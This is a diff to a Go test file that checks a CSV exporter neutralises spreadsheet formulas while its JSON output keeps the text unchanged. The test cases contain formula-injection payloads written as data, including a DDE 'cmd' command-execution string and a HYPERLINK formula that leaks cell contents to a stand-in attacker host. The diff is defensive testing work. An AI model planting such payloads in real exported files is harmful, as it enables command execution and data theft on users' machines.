@@ -360,9 +360,78 @@ func TestCSVRoundTrip(t *testing.T) {
 		})
 	}
 	hostile := [][]string{{"عريضة، \"الحي\"\nسطر ثان", " x", "a,b", "", "\"", "=1+1"}}
-	if got := readCSV(t, CSV([]string{"a", "b", "c", "d", "e", "f"}, hostile)); !reflect.DeepEqual(got[1:], hostile) {
-		t.Errorf("read back %q, want %q", got[1:], hostile)
+	want := [][]string{{"عريضة، \"الحي\"\nسطر ثان", " x", "a,b", "", "\"", "'=1+1"}}
+	if got := readCSV(t, CSV([]string{"a", "b", "c", "d", "e", "f"}, hostile)); !reflect.DeepEqual(got[1:], want) {
+		t.Errorf("read back %q, want %q", got[1:], want)
 	}
+}
+
+// TestCSVNeutralizesFormulas checks that no text of a record reaches a
+// spreadsheet program as a formula, while the JSON keeps it as written.
+func TestCSVNeutralizesFormulas(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ cell, want string }{
+		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+		{`=HYPERLINK("https://evil.example/?"&A1,"ici")`, `'=HYPERLINK("https://evil.example/?"&A1,"ici")`},
+		{"+212 5 36 61 23 45", "'+212 5 36 61 23 45"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+		{"\t=1+1", "'\t=1+1"},
+		{"\r=1+1", "'\r'=1+1"},
+		{"Budget\n=1+1", "Budget\n'=1+1"},
+		{"Budget\r\n@SUM(A1)", "Budget\r\n'@SUM(A1)"},
+		{"Budget;=1+1", "Budget;'=1+1"},
+		{"=a;=b\n-c", "'=a;'=b\n'-c"},
+		{"-1200", "-1200"},
+		{"+5", "+5"},
+		{"12.5", "12.5"},
+		{"-12.5.1", "'-12.5.1"},
+		{"Pétitions – 2026", "Pétitions – 2026"},
+		{"e-mail = courriel", "e-mail = courriel"},
+		{"Budget; rectificatif", "Budget; rectificatif"},
+		{"", ""},
+		{"'=déjà", "'=déjà"},
+	}
+	for _, tt := range tests {
+		if got := Neutral(tt.cell); got != tt.want {
+			t.Errorf("Neutral(%q) = %q, want %q", tt.cell, got, tt.want)
+		}
+	}
+
+	r := records()
+	r.Petitions[0].Title["fr"] = "=cmd|' /C calc'!A0"
+	r.Sessions[0].Agenda[1]["fr"] = `=HYPERLINK("https://evil.example/","ici")`
+	for _, tb := range Tables(r, langs) {
+		switch tb.Name {
+		case "petitions", "sessions":
+			got := readCSV(t, CSV(tb.Head, tb.Rows))
+			for _, row := range got[1:] {
+				for _, c := range row {
+					if strings.HasPrefix(c, "=") || strings.Contains(c, "\n=") {
+						t.Errorf("%s.csv: formula %q", tb.Name, c)
+					}
+				}
+			}
+		}
+	}
+	out, err := JSON(r.Petitions)
+	if err != nil || !bytes.Contains(out, []byte(`"fr": "=cmd|' /C calc'!A0"`)) {
+		t.Errorf("the JSON does not keep the title as written:\n%s", out)
+	}
+}
+
+// formula reports whether a spreadsheet program could read a part of a
+// cell read back from a CSV file as a formula.
+func formula(cell string) bool {
+	if number.MatchString(cell) {
+		return false
+	}
+	for _, line := range strings.FieldsFunc(cell, func(r rune) bool { return r == '\n' || r == '\r' || r == ';' }) {
+		if strings.IndexByte(formulaStart, line[0]) >= 0 {
+			return true
+		}
+	}
+	return cell != "" && strings.IndexByte(formulaStart, cell[0]) >= 0
 }
 
 func readCSV(t *testing.T, b []byte) [][]string {
@@ -478,6 +547,8 @@ func rows(_ []string, r [][]string) [][]string { return r }
 func FuzzText(f *testing.F) {
 	f.Add("عريضة، \"الحي\"\nسطر", " x")
 	f.Add("\xff\u2028<&>", "")
+	f.Add("=cmd|' /C calc'!A0", "-1200")
+	f.Add("a;@x\n+y", "\t-")
 	f.Fuzz(func(t *testing.T, a, b string) {
 		out, err := JSON([]string{a, b})
 		if err != nil || !json.Valid(out) {
@@ -493,8 +564,17 @@ func FuzzText(f *testing.F) {
 		if strings.ContainsRune(a+b, '\r') {
 			return // CSV normalises line breaks to \n
 		}
-		if got := readCSV(t, CSV([]string{"a", "b"}, [][]string{{a, b}})); !reflect.DeepEqual(got[1], []string{a, b}) {
-			t.Errorf("CSV round trip of %q gave %q", []string{a, b}, got[1])
+		got := readCSV(t, CSV([]string{"a", "b"}, [][]string{{a, b}}))
+		if want := []string{Neutral(a), Neutral(b)}; !reflect.DeepEqual(got[1], want) {
+			t.Errorf("CSV round trip of %q gave %q, want %q", []string{a, b}, got[1], want)
+		}
+		for _, c := range got[1] {
+			if formula(c) {
+				t.Errorf("CSV of %q holds the formula %q", []string{a, b}, c)
+			}
+		}
+		if n := Neutral(a); n != a && n != "'"+a && !strings.ContainsAny(a, "\r\n;") {
+			t.Errorf("Neutral(%q) = %q changes more than its start", a, Neutral(a))
 		}
 	})
 }
